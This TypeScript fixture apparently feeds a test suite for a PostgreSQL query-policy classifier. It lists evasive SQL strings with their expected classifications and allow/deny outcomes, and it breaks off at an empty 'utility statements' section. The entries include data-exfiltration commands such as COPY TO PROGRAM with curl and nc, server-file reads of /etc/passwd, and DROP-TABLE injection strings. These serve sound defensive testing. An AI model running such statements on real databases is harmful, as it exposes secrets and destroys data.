/**
 * SQL policy corpus: SQL text → what each statement does (kinds, tables, functions, as sets) and
 * the decision under the fixed rule set of policy-corpus.test.ts. Organised by the evasion each
 * theme covers. The expectations are what SPEC §2 asks for, as a security team would read it, not
 * what src/ happens to do; entries whose expectation rests on PostgreSQL behaviour a reader might
 * doubt carry a `note` (each such behaviour was checked against PostgreSQL 15).
 *
 * Readings taken where SPEC §2 is silent or ambiguous:
 *  - `schema.*` table patterns (`vault.*`) match qualified names in that schema ("`schema.name`
 *    exactly"). An unqualified name is not in `vault` unless the session was seen putting `vault`
 *    on its search_path: within one message, `SET search_path = vault; SELECT * FROM keys` is a
 *    read of vault.keys; `SELECT * FROM orders` on its own is not.
 *  - Table patterns are matched case-insensitively, so `"Customers"` is treated as customers
 *    (fail-closed, although PostgreSQL would see another table).
 *  - Statement-level kinds follow the parse tree: PL/pgSQL expressions evaluated by a DO block and
 *    the VALUES list of an INSERT are `select` work.
 *  - `no_where` holds when the WHERE clause cannot tell rows apart: absent, or built without any
 *    column reference (`WHERE true`, `WHERE 1=1`, `WHERE now() IS NOT NULL`, `WHERE (SELECT true)`,
 *    `WHERE $1`). MERGE's ON condition is its WHERE.
 *  - Text the classifier cannot analyse (syntax error, or beyond its resource limits) is `unknown`.
 *  - `x.name` and `(expr).name` may be the call name(x) (attribute notation): PostgreSQL decides by
 *    the catalog, so every such name is listed among the functions (`c.id` lists `id`).
 *  - Functions that run SQL text or read relations named by a value are `dynamic`; what their
 *    literal arguments run is classified as well (SQL text, a relation name).
 */
import type { StatementKind } from "../../src/policy/sql/kinds.js";

export type RuleName =
  | "no-schema-changes" | "no-server-files" | "unbounded-delete" | "no-copy-program"
  | "protect-secrets" | "no-grants" | "customers-delete" | "default-deny-unknown" | "protected-setting";

/** "allow", or the name of the rule that denies. */
export type Outcome = "allow" | RuleName;

export interface ExpectedStatement {
  kinds: StatementKind[];
  tables: string[];
  functions: string[];
}

export interface CorpusEntry {
  sql: string;
  /** Test title when the SQL is too long to show. */
  label?: string;
  statements: ExpectedStatement[];
  decision: Outcome;
  /** Statements the session prepared earlier: name → `PREPARE name AS ...` text. */
  prepared?: Record<string, string>;
  /** Another result that is equally correct (e.g. `unknown` instead of a full classification). */
  alt?: { statements: ExpectedStatement[]; decision: Outcome };
  /** Why the expectation is what it is, where that is not obvious. */
  note?: string;
}

export interface Theme {
  theme: string;
  /** The evasion (or behaviour) the theme covers. */
  covers: string;
  entries: CorpusEntry[];
}

const words = (s: string): string[] => s.split(" ").filter((w) => w.length > 0);

/** One expected statement: kinds, tables and functions as space-separated lists. */
export function s(kinds: string, tables = "", functions = ""): ExpectedStatement {
  return { kinds: words(kinds) as StatementKind[], tables: words(tables), functions: words(functions) };
}

function e(sql: string, decision: Outcome, statements: ExpectedStatement[], more: Partial<CorpusEntry> = {}): CorpusEntry {
  return { sql, decision, statements, ...more };
}

const ALLOW = "allow" as const;
const UNKNOWN = [s("unknown")];

// ---------------------------------------------------------------------------------------------
// Generated long queries.
const inList = `SELECT * FROM orders WHERE id IN (${Array.from({ length: 1000 }, (_, i) => i).join(",")})`;
const manyStatements = `${"SELECT 1;".repeat(100)}DROP TABLE t`;
const bigComment = `/*${"x".repeat(200_000)}*/ DELETE FROM customers`;
const longString = `SELECT '${"''; DROP TABLE t; -- ".repeat(3000)}'`;
const wideSelect = `SELECT ${Array.from({ length: 500 }, (_, i) => `c${i}`).join(", ")} FROM orders`;
const longUnion = `${Array.from({ length: 200 }, (_, i) => `SELECT ${i} FROM orders`).join(" UNION ALL ")} UNION ALL SELECT 1 FROM vault.keys`;
const manyCtes = `WITH ${Array.from({ length: 100 }, (_, i) => `c${i} AS (SELECT ${i})`).join(", ")}, d AS (DELETE FROM customers RETURNING *) SELECT * FROM d`;
const nested = (depth: number, inner: string) => {
  let q = inner;
  for (let i = 0; i < depth; i++) q = `SELECT * FROM (${q}) a${i}`;
  return q;
};
const deepCalls = (() => {
  let q = "1";
  for (let i = 0; i < 300; i++) q = `lower(${q})`;
  return `SELECT ${q}, pg_read_file('x')`;
})();
const longSum = `SELECT ${Array.from({ length: 3000 }, () => "1").join(" + ")}`;

export const CORPUS: Theme[] = [
  {
    theme: "baseline",
    covers: "ordinary reads and empty input: nothing to deny (no statements → allow)",
    entries: [
      e("SELECT 1", ALLOW, [s("select")]),
      e("select 1", ALLOW, [s("select")]),
      e("VALUES (1), (2)", ALLOW, [s("select")]),
      e("SELECT * FROM orders", ALLOW, [s("select", "orders")]),
      e("SELECT id, total FROM public.orders WHERE id = 1", ALLOW, [s("select", "public.orders")]),
      e("SELECT now()", ALLOW, [s("select", "", "now")]),
      e("SELECT CURRENT_USER", ALLOW, [s("select")]),
      e("SELECT * FROM (VALUES (1)) v(a)", ALLOW, [s("select")]),
      e("SELECT 1 EXCEPT SELECT 2", ALLOW, [s("select")]),
      e("SELECT * FROM orders WHERE note LIKE '%DROP TABLE customers%'", ALLOW, [s("select", "orders")]),
      e("", ALLOW, []),
      e("   \n\t  ", ALLOW, []),
      e("-- only a comment", ALLOW, []),
      e("/* only a comment */", ALLOW, []),
      e(";;;", ALLOW, []),
    ],
  },
  {
    theme: "comments",
    covers: "`--`, `/* */` and nested `/* /* */ */` comments between keywords, hiding or faking clauses",
    entries: [
      e("DELETE/* x */FROM customers", "unbounded-delete", [s("delete", "customers")]),
      e("DELETE /* /* nested */ */ FROM customers", "unbounded-delete", [s("delete", "customers")]),
      e("DELETE -- c\nFROM customers", "unbounded-delete", [s("delete", "customers")]),
      e("DELETE FROM customers /* WHERE id = 1 */", "unbounded-delete", [s("delete", "customers")]),
      e("DELETE FROM customers -- WHERE id = 1", "unbounded-delete", [s("delete", "customers")]),
      e("UPDATE customers SET a = 1 /* WHERE id = 1 */", "unbounded-delete", [s("update", "customers")]),
      e("/* leading */ DROP /* mid */ TABLE /* x */ t", "no-schema-changes", [s("ddl", "t")]),
      e("DROP/**/TABLE/**/t", "no-schema-changes", [s("ddl", "t")]),
      e("DROP--x\nTABLE t", "no-schema-changes", [s("ddl", "t")]),
      e("truncate/**/customers", "no-schema-changes", [s("truncate", "customers")]),
      e("SELECT 1 -- ; DROP TABLE t", ALLOW, [s("select")]),
      e("SELECT 1 /* ; DROP TABLE t */", ALLOW, [s("select")]),
      e("SELECT 1 /* /* ; */ DROP TABLE t */", ALLOW, [s("select")], { note: "the nested comment is still open after the first */" }),
      e("SELECT 1 /* /* nested, closed once */", "default-deny-unknown", UNKNOWN),
      e("SELECT pg_catalog./**/pg_read_file/**/('x')", "no-server-files", [s("select", "", "pg_catalog.pg_read_file")]),
      e("SELECT '/*'; DROP TABLE t; SELECT '*/'", "no-schema-changes", [s("select"), s("ddl", "t"), s("select")]),
      e("SELECT '--'; DROP TABLE t", "no-schema-changes", [s("select"), s("ddl", "t")]),
    ],
  },
  {
    theme: "case and quoting",
    covers: "mixed case, quoted identifiers, schema-qualified and quoted function names",
    entries: [
      e("DeLeTe FrOm CuStOmErS", "unbounded-delete", [s("delete", "customers")]),
      e(`DELETE FROM "customers" WHERE id = 1`, "customers-delete", [s("delete", "customers")]),
      e("DELETE FROM CUSTOMERS WHERE id = 1", "customers-delete", [s("delete", "customers")]),
      e("DELETE FROM public.customers WHERE id = 1", "customers-delete", [s("delete", "public.customers")]),
      e(`DELETE FROM "public"."customers" WHERE id = 1`, "customers-delete", [s("delete", "public.customers")]),
      e(`DELETE FROM "Customers" WHERE id = 1`, "customers-delete", [s("delete", "Customers")], { note: "patterns are case-insensitive: fail-closed" }),
      e("delete from customers as c where c.id = 1", "customers-delete", [s("delete", "customers", "id")], { note: "`c.id` may be the call id(c) in attribute notation: every `x.name` counts as a possible call" }),
      e("DELETE FROM ONLY customers WHERE id = 1", "customers-delete", [s("delete", "customers")]),
      e(`SELECT pg_catalog."pg_read_file"('/etc/passwd')`, "no-server-files", [s("select", "", "pg_catalog.pg_read_file")]),
      e("SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", "no-server-files", [s("select", "", "pg_catalog.pg_read_file")]),
      e(`SELECT "PG_READ_FILE"('x')`, "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT Pg_Read_File('x')", "no-server-files", [s("select", "", "pg_read_file")]),
      e("select pg_read_file\n('x')", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT pg_catalog . pg_read_file ('x')", "no-server-files", [s("select", "", "pg_catalog.pg_read_file")]),
      e(`SELECT "pg_read_file"`, ALLOW, [s("select")], { note: "a column named pg_read_file, not a call" }),
      e("SELECT 'pg_read_file(1)'", ALLOW, [s("select")]),
      e("SELECT my_pg_read_file('x'), pg_read_filex('y')", ALLOW, [s("select", "", "my_pg_read_file pg_read_filex")]),
      e(`SELECT * FROM "secrets"`, "protect-secrets", [s("select", "secrets")]),
      e("SELECT * FROM VAULT.KEYS", "protect-secrets", [s("select", "vault.keys")]),
      e(`SELECT * FROM "Vault"."Keys"`, "protect-secrets", [s("select", "Vault.Keys")]),
      e("SELECT * FROM app.public.secrets", "protect-secrets", [s("select", "public.secrets")]),
      e(`dRoP tAbLe "T"`, "no-schema-changes", [s("ddl", "T")]),
      e(`SELECT "DBLINK_EXEC"('x')`, "no-schema-changes", [s("select dynamic", "", "dblink_exec")], { note: "dblink runs SQL text (dynamic), and rule 1 comes first" }),
      e("SELECT public.dblink('x', 'select 1')", "no-schema-changes", [s("select dynamic", "", "public.dblink")]),
      e("SELECT * FROM dblink('x', 'select 1') AS t(a int)", "no-schema-changes", [s("select dynamic", "", "dblink")]),
      e("SELECT dblink_connect('x')", "no-schema-changes", [s("select dynamic", "", "dblink_connect")]),
      e("SELECT lo_import('/etc/passwd')", "no-server-files", [s("select", "", "lo_import")]),
      e("SELECT lo_export(1, '/tmp/x')", "no-server-files", [s("select", "", "lo_export")]),
      e("SELECT pg_read_binary_file('x')", "no-server-files", [s("select", "", "pg_read_binary_file")]),
      e("select pg_catalog.pg_ls_dir('.')", "no-server-files", [s("select", "", "pg_catalog.pg_ls_dir")]),
    ],
  },
  {
    theme: "function calls in every position",
    covers: "a denied function hidden in FROM, casts, subqueries, ORDER BY, CALL, INSERT values",
    entries: [
      e("SELECT * FROM pg_ls_dir('.') AS t", "no-server-files", [s("select", "", "pg_ls_dir")]),
      e("SELECT * FROM ROWS FROM (pg_ls_dir('.')) AS t", "no-server-files", [s("select", "", "pg_ls_dir")]),
      e("SELECT * FROM LATERAL pg_ls_dir('.') AS t", "no-server-files", [s("select", "", "pg_ls_dir")]),
      e("SELECT pg_read_file('x')::int", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT CAST(pg_read_file('x') AS int)", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT coalesce(pg_read_file('x'), '')", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT ARRAY(SELECT pg_ls_dir('.'))", "no-server-files", [s("select", "", "pg_ls_dir")]),
      e("SELECT (SELECT pg_read_file('x'))", "no-server-files", [s("select", "", "pg_read_file")]),
      e("SELECT * FROM orders ORDER BY pg_read_file('x')", "no-server-files", [s("select", "orders", "pg_read_file")]),
      e("SELECT * FROM orders GROUP BY pg_read_file('x')", "no-server-files", [s("select", "orders", "pg_read_file")]),
      e("CALL pg_read_file('x')", "no-server-files", [s("call", "", "pg_read_file")]),
      e("INSERT INTO orders VALUES ((SELECT pg_read_file('x')))", "no-server-files", [s("insert select", "orders", "pg_read_file")]),
      e("UPDATE orders SET x = (SELECT pg_read_file('x')) WHERE id = 1", "no-server-files", [s("update select", "orders", "pg_read_file")]),
    ],
  },
  {
    theme: "unicode escapes",
    covers: "U&\"...\" identifiers (with and without UESCAPE) spelling table and function names",
    entries: [
      e(String.raw`SELECT * FROM U&"d\0061ta"`, ALLOW, [s("select", "data")]),
      e(String.raw`SELECT U&"pg\005fread\005ffile"('/etc/passwd')`, "no-server-files", [s("select", "", "pg_read_file")]),
      e(String.raw`SELECT U&"pg\005fcatalog".U&"pg\005fread\005ffile"('x')`, "no-server-files", [s("select", "", "pg_catalog.pg_read_file")]),
      e(String.raw`SELECT U&"PG\005FREAD\005FFILE"('x')`, "no-server-files", [s("select", "", "pg_read_file")]),
      e(String.raw`SELECT U&"dblink\005fexec"('x')`, "no-schema-changes", [s("select dynamic", "", "dblink_exec")]),
      e(`SELECT * FROM U&"secr!0065ts" UESCAPE '!'`, "protect-secrets", [s("select", "secrets")]),
      e(String.raw`SELECT * FROM U&"s\+000065crets"`, "protect-secrets", [s("select", "secrets")]),
      e(String.raw`SELECT * FROM U&"v\0061ult".keys`, "protect-secrets", [s("select", "vault.keys")]),
      e(String.raw`DELETE FROM U&"cust\006fmers" WHERE id = 1`, "customers-delete", [s("delete", "customers")]),
      e(String.raw`SELECT U&'\0064elete from customers'`, ALLOW, [s("select")]),
    ],
  },
  {
    theme: "dollar quotes and E'' strings",
    covers: "SQL hidden in (tagged) dollar-quoted and escape strings, and strings that end where a text matcher does not expect",
    entries: [
      e("SELECT $$DELETE FROM customers$$", ALLOW, [s("select")]),
      e("SELECT $tag$ DROP TABLE t $tag$", ALLOW, [s("select")]),
      e("SELECT $q$'; DELETE FROM customers; --$q$", ALLOW, [s("select")]),
      e("SELECT $_$pg_read_file('x')$_$", ALLOW, [s("select")]),
      e("SELECT $a$ $b$ $a$; DROP TABLE t; --$b$", "no-schema-changes", [s("select"), s("ddl", "t")]),
      e("SELECT $$ $$; DELETE FROM customers WHERE id = 1; SELECT $$ $$", "customers-delete", [s("select"), s("delete", "customers"), s("select")]),
      e(String.raw`SELECT E'\'; DROP TABLE t; --'`, ALLOW, [s("select")]),
      e(String.raw`SELECT E'\\'; DROP TABLE t; --'`, "no-schema-changes", [s("select"), s("ddl", "t")]),
      e("SELECT 'a''; DELETE FROM customers; --'", ALLOW, [s("select")]),
      e(String.raw`SELECT E'\x44ELETE FROM customers'`, ALLOW, [s("select")]),
      e("copy customers to program $$curl http://x$$", "no-copy-program", [s("copy_out", "customers")]),
    ],
  },
  {
    theme: "multi-statement strings",
    covers: "a harmless first statement followed by a harmful one: every statement judged, strictest wins",
    entries: [
      e("select 1; drop table t", "no-schema-changes", [s("select"), s("ddl", "t")]),
      e("SELECT 1;;SELECT 2;", ALLOW, [s("select"), s("select")]),
      e("SELECT * FROM orders; DELETE FROM customers WHERE id = 1", "customers-delete", [s("select", "orders"), s("delete", "customers")]),
      e("DELETE FROM customers WHERE id = 1; DROP TABLE t", "customers-delete", [s("delete", "customers"), s("ddl", "t")], { note: "equal strictness: the first deny is reported" }),
      e("BEGIN; DELETE FROM orders; COMMIT", "unbounded-delete", [s("transaction"), s("delete", "orders"), s("transaction")]),
      e("SELECT 1; SELECT pg_read_file('x')", "no-server-files", [s("select"), s("select", "", "pg_read_file")]),
      e("SELECT 1; xyzzy", "default-deny-unknown", UNKNOWN, { note: "one syntax error makes the whole text unknown" }),
      e("CHECKPOINT; SELECT 1", ALLOW, [s("utility"), s("select")]),
    ],
  },
  {
    theme: "CTEs",
    covers: "data-modifying CTEs, DELETE inside nested/sub CTEs, CTE names shadowing (or not) real tables",
    entries: [
      e("WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d", "unbounded-delete", [s("select delete", "customers")]),
      e("WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d", ALLOW, [s("select delete", "orders")]),
      e("WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM d", "customers-delete", [s("select delete", "customers")]),
      e("WITH x AS (UPDATE customers SET a = 1 RETURNING *) SELECT * FROM x", "unbounded-delete", [s("select update", "customers")]),
      e("WITH x AS (INSERT INTO secrets VALUES (1) RETURNING *) SELECT 1", "protect-secrets", [s("select insert", "secrets")]),
      e("WITH t AS (SELECT 1), u AS (DELETE FROM customers WHERE id IN (SELECT * FROM t) RETURNING *) SELECT * FROM u", "customers-delete", [s("select delete", "customers")]),
      e("WITH a AS (WITH b AS (DELETE FROM orders RETURNING *) SELECT * FROM b) SELECT * FROM a", "unbounded-delete", [s("select delete", "orders")]),
      e("SELECT * FROM (WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d) s", "unbounded-delete", [s("select delete", "customers")], { note: "PostgreSQL rejects this at analysis; the classifier still judges the work" }),
      e("WITH d AS (SELECT * FROM (DELETE FROM customers RETURNING *) x) SELECT 1", "default-deny-unknown", UNKNOWN),
      e("WITH d AS (DELETE FROM customers RETURNING *) INSERT INTO orders SELECT * FROM d", "unbounded-delete", [s("insert delete select", "customers orders")]),
      e("WITH customers AS (SELECT 1) SELECT * FROM customers", ALLOW, [s("select")]),
      e("WITH secrets AS (SELECT 1) SELECT * FROM secrets", ALLOW, [s("select")]),
      e("WITH keys AS (SELECT 1) SELECT * FROM vault.keys", "protect-secrets", [s("select", "vault.keys")]),
      e("WITH customers AS (SELECT 1) DELETE FROM customers WHERE id = 1", "customers-delete", [s("delete select", "customers")], {
        note: "the target of INSERT/UPDATE/DELETE/MERGE is never a CTE in PostgreSQL (parserOpenTable): this deletes from the real customers",
      }),
      e("WITH customers AS (SELECT 1) DELETE FROM customers", "unbounded-delete", [s("delete select", "customers")], { note: "as above" }),
      e("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets", "protect-secrets", [s("select", "secrets")], {
        note: "a non-recursive CTE is not in scope in its own body: the inner `secrets` is the real table",
      }),
      e("WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a, secrets", "protect-secrets", [s("select", "secrets")], {
        note: "a non-recursive CTE sees only the CTEs before it: the `secrets` inside `a` is the real table",
      }),
      e("WITH RECURSIVE secrets AS (SELECT * FROM vault.keys UNION ALL SELECT * FROM secrets) SELECT * FROM secrets", "protect-secrets", [s("select", "vault.keys")]),
      e("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r", ALLOW, [s("select")]),
      e("WITH x AS (SELECT 1) SELECT * FROM x, (WITH y AS (SELECT 1) SELECT * FROM y) q, y", ALLOW, [s("select", "y")], { note: "the outer `y` is out of the inner CTE's scope" }),
      e("WITH x AS (SELECT 1) SELECT * FROM (WITH y AS (SELECT 2) SELECT * FROM y, secrets) s", "protect-secrets", [s("select", "secrets")]),
      e("WITH d AS MATERIALIZED (SELECT * FROM secrets) SELECT * FROM d", "protect-secrets", [s("select", "secrets")]),
    ],
  },
  {
    theme: "EXPLAIN",
    covers: "EXPLAIN ANALYZE runs the statement (its work counts); plain EXPLAIN and ANALYZE false/off/0 do not",
    entries: [
      e("EXPLAIN DELETE FROM customers", ALLOW, [s("explain", "customers")]),
      e("EXPLAIN VERBOSE DELETE FROM customers", ALLOW, [s("explain", "customers")]),
      e("EXPLAIN (ANALYZE false) DELETE FROM customers", ALLOW, [s("explain", "customers")]),
      e("EXPLAIN (ANALYZE off) DELETE FROM customers", ALLOW, [s("explain", "customers")]),
      e("EXPLAIN (ANALYZE FALSE) DELETE FROM customers", ALLOW, [s("explain", "customers")]),
      e("EXPLAIN (ANALYZE 0) DELETE FROM orders", ALLOW, [s("explain", "orders")], { note: "defGetBoolean accepts 0/1: ANALYZE 0 does not run the DELETE" }),
      e("EXPLAIN (ANALYZE 'FALSE') DELETE FROM orders", ALLOW, [s("explain", "orders")], { note: "defGetBoolean compares case-insensitively: 'FALSE' is false" }),
      e("EXPLAIN ANALYZE DELETE FROM customers", "unbounded-delete", [s("explain delete", "customers")]),
      e("EXPLAIN ANALYSE DELETE FROM customers", "unbounded-delete", [s("explain delete", "customers")]),
      e("EXPLAIN (ANALYZE) DELETE FROM customers", "unbounded-delete", [s("explain delete", "customers")]),
      e("EXPLAIN (ANALYZE true, BUFFERS) DELETE FROM customers", "unbounded-delete", [s("explain delete", "customers")]),
      e("EXPLAIN (ANALYSE on) DELETE FROM customers WHERE id = 1", "customers-delete", [s("explain delete", "customers")]),
      e("EXPLAIN ANALYZE VERBOSE DELETE FROM customers WHERE id = 1", "customers-delete", [s("explain delete", "customers")]),
      e("EXPLAIN ANALYZE UPDATE orders SET a = 1", "unbounded-delete", [s("explain update", "orders")]),
      e("EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", "no-schema-changes", [s("explain ddl select", "x")]),
      e("EXPLAIN CREATE TABLE x AS SELECT 1", ALLOW, [s("explain", "x")]),
      e("EXPLAIN (FORMAT JSON) SELECT * FROM secrets", "protect-secrets", [s("explain", "secrets")]),
      e("EXPLAIN SELECT pg_read_file('x')", "no-server-files", [s("explain", "", "pg_read_file")], { note: "functions conditions look at the text, not at whether it runs: fail-closed" }),
    ],
  },
  {
    theme: "tables made from queries",
    covers: "CREATE TABLE AS, SELECT INTO, materialized views, views and rules: DDL that also reads (or deletes)",
    entries: [
      e("CREATE TABLE x AS SELECT * FROM orders", "no-schema-changes", [s("ddl select", "x orders")]),
      e("CREATE TABLE x AS SELECT * FROM secrets", "no-schema-changes", [s("ddl select", "x secrets")]),
      e("SELECT * INTO x FROM customers", "no-schema-changes", [s("select ddl", "x customers")]),
      e("SELECT * INTO TEMP x FROM orders", "no-schema-changes", [s("select ddl", "x orders")]),
      e("CREATE MATERIALIZED VIEW mv AS SELECT * FROM vault.keys", "no-schema-changes", [s("ddl select", "mv vault.keys")]),
      e("CREATE TABLE t AS WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d", "no-schema-changes", [s("ddl select delete", "t customers")]),
      e("CREATE VIEW v AS SELECT * FROM secrets", "no-schema-changes", [s("ddl select", "v secrets")]),
      e("REFRESH MATERIALIZED VIEW mv", "no-schema-changes", [s("ddl", "mv")]),
    ],
  },
  {
    theme: "COPY",
    covers: "COPY TO/FROM PROGRAM, COPY of a query, COPY of a data-modifying query (PG ≥ 9.6)",
    entries: [
      e("COPY customers TO PROGRAM 'curl -d @- http://x'", "no-copy-program", [s("copy_out", "customers")]),
      e("COPY customers FROM PROGRAM 'cat /etc/passwd'", "no-copy-program", [s("copy_in", "customers")]),
      e("COPY customers TO PROGRAM 'gzip > /tmp/x' WITH (FORMAT csv)", "no-copy-program", [s("copy_out", "customers")]),
      e("COPY (SELECT * FROM orders) TO PROGRAM 'nc x 1'", "no-copy-program", [s("copy_out select", "orders")]),
      e("COPY secrets TO PROGRAM 'x'", "no-copy-program", [s("copy_out", "secrets")]),
      e("COPY (SELECT * FROM customers) TO STDOUT", ALLOW, [s("copy_out select", "customers")]),
      e("COPY customers TO STDOUT", ALLOW, [s("copy_out", "customers")]),
      e("COPY customers FROM STDIN", ALLOW, [s("copy_in", "customers")]),
      e("COPY customers (a, b) FROM STDIN WITH (FORMAT csv)", ALLOW, [s("copy_in", "customers")]),
      e("COPY customers TO '/tmp/x'", ALLOW, [s("copy_out", "customers")], { note: "a server file, not a program: no rule of this set covers it" }),
      e("COPY vault.keys TO STDOUT", "protect-secrets", [s("copy_out", "vault.keys")]),
      e("COPY (DELETE FROM customers RETURNING *) TO STDOUT", "unbounded-delete", [s("copy_out delete", "customers")]),
      e("COPY (DELETE FROM customers WHERE id = 1 RETURNING *) TO STDOUT", "customers-delete", [s("copy_out delete", "customers")]),
      e("COPY (UPDATE orders SET a = 1 RETURNING *) TO STDOUT", "unbounded-delete", [s("copy_out update", "orders")]),
      e("COPY (SELECT pg_read_file('x')) TO STDOUT", "no-server-files", [s("copy_out select", "", "pg_read_file")]),
    ],
  },
  {
    theme: "DO blocks",
    covers: "anonymous code blocks: plain, tagged, LANGUAGE given, EXECUTE of a string, server-file functions inside",
    entries: [
      e("DO $$ BEGIN NULL; END $$", "no-schema-changes", [s("dynamic")]),
      e("DO 'BEGIN NULL; END'", "no-schema-changes", [s("dynamic")]),
      e("DO $x$ BEGIN DELETE FROM customers; END $x$", "no-schema-changes", [s("dynamic delete", "customers")]),
      e("DO E'BEGIN DELETE FROM customers; END'", "no-schema-changes", [s("dynamic delete", "customers")]),
      e("DO LANGUAGE plpgsql $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", "no-schema-changes", [s("dynamic select", "", "pg_read_file")]),
      e("do $tag$ begin perform pg_catalog.pg_ls_dir('.'); end $tag$", "no-schema-changes", [s("dynamic select", "", "pg_catalog.pg_ls_dir")]),
      e("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", "no-schema-changes", [s("dynamic select ddl", "t")], { note: "a literal EXECUTEd is classified as the SQL it is" }),
      e("DO $a$ BEGIN EXECUTE $b$DROP TABLE t$b$; END $a$", "no-schema-changes", [s("dynamic select ddl", "t")]),
      e("DO $$ BEGIN EXECUTE 'DROP TABLE ' || 't'; END $$", "no-schema-changes", [s("dynamic select")], { note: "computed text: only `dynamic` can be said" }),
      e("DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'select 1' LOOP END LOOP; END $$", "no-schema-changes", [s("dynamic select")]),
      e("DO $$ BEGIN RAISE NOTICE '%', (SELECT count(*) FROM secrets); END $$", "no-schema-changes", [s("dynamic select", "secrets", "count")]),
      e("DO LANGUAGE plperlu $$ system('x') $$", "no-schema-changes", [s("dynamic")]),
      e("DO $$ BEGIN broken syntax here; END $$", "no-schema-changes", [s("dynamic unknown")]),
    ],
  },
  {
    theme: "PREPARE / EXECUTE",
    covers: "work hidden behind a prepared name: PREPARE carries its kinds, EXECUTE carries the prepared statement's, an unknown name is unknown",
    entries: [
      e("PREPARE p AS DELETE FROM customers", "unbounded-delete", [s("prepare delete", "customers")]),
      e("PREPARE q(int) AS DELETE FROM customers WHERE id = $1", "customers-delete", [s("prepare delete", "customers")]),
      e("PREPARE s AS SELECT * FROM secrets", "protect-secrets", [s("prepare select", "secrets")]),
      e("PREPARE r AS SELECT pg_read_file('x')", "no-server-files", [s("prepare select", "", "pg_read_file")]),
      e("PREPARE o AS SELECT * FROM orders WHERE id = $1", ALLOW, [s("prepare select", "orders")]),
      e("PREPARE t AS TRUNCATE orders", "default-deny-unknown", UNKNOWN, { note: "PostgreSQL cannot prepare TRUNCATE" }),
      e("EXECUTE d", "unbounded-delete", [s("execute delete", "orders")], { prepared: { d: "PREPARE d AS DELETE FROM orders" } }),
      e("EXECUTE q(5)", "customers-delete", [s("execute delete", "customers")], { prepared: { q: "PREPARE q(int) AS DELETE FROM customers WHERE id = $1" } }),
      e("EXECUTE o(1)", ALLOW, [s("execute select", "orders")], { prepared: { o: "PREPARE o AS SELECT * FROM orders WHERE id = $1" } }),
      e("EXECUTE s", "protect-secrets", [s("execute select", "secrets")], { prepared: { s: "PREPARE s AS SELECT * FROM secrets" } }),
      e("EXECUTE nope", "default-deny-unknown", [s("execute unknown")]),
      e("EXECUTE d", "default-deny-unknown", [s("execute unknown")], { prepared: { other: "PREPARE other AS DELETE FROM orders" } }),
      e("EXPLAIN ANALYZE EXECUTE d", "unbounded-delete", [s("explain execute delete", "orders")], { prepared: { d: "PREPARE d AS DELETE FROM orders" } }),
      e("EXPLAIN EXECUTE d", ALLOW, [s("explain", "orders")], {
        prepared: { d: "PREPARE d AS DELETE FROM orders" },
        note: "plain EXPLAIN does not run the prepared DELETE, exactly like EXPLAIN DELETE",
      }),
      e("CREATE TABLE x AS EXECUTE d", "no-schema-changes", [s("ddl execute delete", "x orders")], { prepared: { d: "PREPARE d AS DELETE FROM orders RETURNING *" } }),
      e("DEALLOCATE q", ALLOW, [s("utility")]),
      e("DEALLOCATE ALL", ALLOW, [s("utility")]),
    ],
  },
  {
    theme: "search_path",
    covers: "unqualified names resolved through a changed search_path vs `vault.*` patterns (see the reading at the top)",
    entries: [
      e("SET search_path = vault; SELECT * FROM secrets", "protect-secrets", [s("set"), s("select", "secrets")]),
      e("SET search_path TO vault, public; SELECT * FROM secrets", "protect-secrets", [s("set"), s("select", "secrets")]),
      e("SET search_path = vault; SELECT * FROM keys", "protect-secrets", [s("set"), s("select", "keys")], { note: "in this message `keys` resolves to vault.keys" }),
      e("SET search_path = vault; SELECT * FROM orders", "protect-secrets", [s("set"), s("select", "orders")], { note: "after the SET, any unqualified name may be in vault" }),
      e("SELECT * FROM keys", ALLOW, [s("select", "keys")], {
        note: "nothing puts `keys` in vault: `vault.*` matching every unqualified name denies all ordinary reads",
      }),
      e("SET search_path = public; SELECT * FROM orders", ALLOW, [s("set"), s("select", "orders")]),
      e("SELECT * FROM vault.keys", "protect-secrets", [s("select", "vault.keys")]),
      e("SELECT * FROM public.keys", ALLOW, [s("select", "public.keys")]),
      e("SET search_path TO vault, public", ALLOW, [s("set")]),
      e("RESET search_path", ALLOW, [s("set")]),
      e("SELECT set_config('search_path', 'vault', false)", ALLOW, [s("select", "", "set_config")]),
      e("ALTER ROLE agent SET search_path = vault", "no-schema-changes", [s("ddl")]),
      e("ALTER DATABASE d SET search_path = vault", "no-schema-changes", [s("ddl")]),
      e("SET search_path = vault, public; DISCARD PLANS; SELECT * FROM keys", "protect-secrets", [s("set"), s("utility"), s("select", "keys")], {
        note: "only DISCARD ALL resets the path; DISCARD PLANS, SEQUENCES and TEMP leave vault on it",
      }),
      e("SET search_path = vault; DISCARD ALL; SELECT * FROM keys", ALLOW, [s("set"), s("utility"), s("select", "keys")]),
      e("SET search_path = public; SET ROLE vault; SELECT * FROM keys", "protect-secrets", [s("set"), s("set"), s("select", "keys")], {
        note: "`$user` is now another role: the path is unknown, every schema assumed",
      }),
      e("SET search_path = public; SET SESSION AUTHORIZATION vault; SELECT * FROM keys", "protect-secrets", [s("set"), s("set"), s("select", "keys")]),
      e("SET search_path = public; ALTER FUNCTION f() SET search_path = vault; SELECT * FROM keys", "no-schema-changes", [s("set"), s("ddl set"), s("select", "keys")], {
        note: "a function's SET clause applies while it runs: `keys` stays in public (the ALTER itself is a schema change)",
      }),
    ],
  },
  {
    theme: "utility statements",
    covers: "maintenance and session statements that are allowed unless they name a protected table",
    entries: [
